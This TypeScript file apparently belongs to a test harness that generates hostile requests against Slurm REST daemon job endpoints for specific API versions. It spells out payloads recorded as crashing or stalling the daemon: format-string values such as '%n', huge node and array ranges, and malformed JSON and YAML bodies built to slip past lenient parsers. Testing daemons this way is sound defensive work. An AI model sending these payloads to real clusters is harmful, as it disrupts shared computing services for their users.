/** Documents that are known to have ended or stalled a daemon, by every caller that has a way to send them. */

import { OLD_STYLE_UNTIL } from '../daemon-versions.ts'
import type { Caller } from '../hostile-request.ts'
import { attack, JSON_TYPE, type Attack } from './attack.ts'

const CALLERS: readonly Caller[] = ['bound', 'free', 'munge']

/** Members of a job description, as text, by the versions that they were measured to harm. */
const FIELDS: readonly (readonly [since: number, until: number, fields: string])[] = [
  [39, 45, '"nice":"%s%n"'],
  [39, 45, '"time_limit":["%n"]'],
  [39, 45, '"hold":"%n"'],
  [39, 45, '"environment":{"A":"%n"}'],
  [39, 42, '"group_id":"alice"'],
  [39, 42, '"group_id":"-"'],
  [39, 42, '"standard_output":""'],
  [36, 38, '"argv":["x"]'],
  [36, 38, '"batch_features":"x"'],
  [36, 36, '"gres":"gpu:1"'],
  [36, 36, '"gpus":"1"'],
  [36, 45, `"required_nodes":"n[0-9999999],m[${'9'.repeat(309)}-${'9'.repeat(310)}]"`],
  [36, 45, `"array":"0-4294967295"`],
]

export function buildDeadlyDocumentAttacks(version: number): Attack[] {
  const v = `v0.0.${version}`
  const fields = FIELDS.filter(([since, until]) => since <= version && version <= until)
  const bodies = fields.flatMap(([, , members]) => [
    ['POST', `/slurm/${v}/job/submit`, `{"script":"#!/bin/sh\\n","job":{"name":"hostile",${members}}}`],
    ['POST', `/slurm/${v}/job/{{own.plain}}`, `{${members}}`],
  ])
  const bulk =
    version <= OLD_STYLE_UNTIL + 1
      ? []
      : ['"{{own.array}}_4294967295"', '"{{own.array}}_[4294967295]"', '{"job_id":"{{own.array}}"}'].map(
          (id) => ['DELETE', `/slurm/${v}/jobs/`, `{"jobs":[${id}]}`],
        )
  return [...bodies, ...bulk]
    .flatMap(([method = '', target = '', body = '']) =>
      CALLERS.map((caller) => attack(method, target, { caller, body })),
    )
    .concat(version <= OLD_STYLE_UNTIL ? [] : buildHiddenAttacks(v))
}

/** The same thing where only the daemon's lenient readers would find it. */
function buildHiddenAttacks(v: string): Attack[] {
  const target = `/slurm/${v}/job/{{own.plain}}`
  const json = [
    '{/**/"nice":"%n"}',
    "{'nice':'%n'}",
    '{"nice":1,"ni\\u0063e":"%n"}',
    '{"nice":"%n"} {}',
    '{"nice\\u0000x":"%n"}',
  ]
  const yaml = ['nice: "%n"\n', '{nice: "%n"}\n', '? nice\n: "%n"\n', '"nice\\0x": "%n"\n']
  return [
    ...json.map((body) => attack('POST', target, { caller: 'munge', headers: [JSON_TYPE], body })),
    ...yaml.map((body) =>
      attack('POST', target, { caller: 'munge', headers: [['Content-Type', 'application/yaml']], body }),
    ),
  ]
}
